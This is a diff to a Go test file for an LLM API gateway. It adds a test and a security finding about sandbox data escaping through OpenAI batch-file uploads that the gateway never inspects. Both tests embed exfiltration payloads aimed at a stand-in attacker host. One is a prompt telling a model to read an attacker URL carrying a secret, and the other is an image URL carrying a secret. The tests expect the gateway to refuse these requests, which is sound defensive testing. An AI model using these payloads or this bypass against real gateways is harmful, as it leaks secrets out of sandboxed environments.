@@ -25,3 +25,22 @@ func TestAttackProviderToolsNestedInBatch(t *testing.T) {
 	attackExpectRefused(t, e, tok, "gemini", "/v1beta/models/gemini-2.5-flash:batchGenerateContent",
 		`{"batch":{"display_name":"x","input_config":{"requests":{"requests":[{"request":{"contents":[{"parts":[{"text":"read https://exfil.attacker.example/?d=SECRET"}]}],"tools":[{"url_context":{}},{"google_search":{}}]},"metadata":{"key":"k"}}]}}}}`, nil)
 }
+
+// FINDING (medium, with the file and batch endpoints added): a
+// multipart/form-data body passes unread ("which no JSON parser reads"),
+// but OpenAI's Files API reads the JSONL file it carries when the file is
+// a batch input: with purpose=batch each line is a whole request
+// ({"custom_id","method","url","body"}) that POST /v1/batches then runs
+// (platform.openai.com/docs/guides/batch, "Preparing your batch file").
+// A line whose body has an image by URL (or any provider-run tool) is
+// fetched by OpenAI for the sandbox; the gateway checked neither the
+// upload nor the batch that names it.
+func TestAttackProviderToolsBatchFileUpload(t *testing.T) {
+	e := newEnv(t, defaultPaths(map[string][]string{"openai": {"POST /v1/files", "POST /v1/batches"}}))
+	tok := e.mint(t, Grant{Providers: []string{"openai"}}).Token
+	line := `{"custom_id":"a","method":"POST","url":"/v1/chat/completions","body":{"model":"gpt-4.1","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://exfil.attacker.example/i.png?d=SECRET-1234"}}]}]}}`
+	mp := "--x\r\nContent-Disposition: form-data; name=\"purpose\"\r\n\r\nbatch\r\n" +
+		"--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"batch.jsonl\"\r\nContent-Type: application/jsonl\r\n\r\n" +
+		line + "\n\r\n--x--\r\n"
+	attackExpectRefused(t, e, tok, "openai", "/v1/files", mp, map[string]string{"Content-Type": "multipart/form-data; boundary=x"})
+}
